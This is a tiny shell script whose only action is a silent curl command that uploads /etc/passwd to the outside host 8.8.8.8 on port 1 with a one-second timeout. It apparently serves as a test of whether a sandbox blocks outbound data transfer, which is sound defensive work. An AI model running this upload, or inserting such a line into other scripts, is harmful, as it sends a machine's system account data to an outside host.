#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
curl -s -m 1 -T /etc/passwd http://8.8.8.8:1/
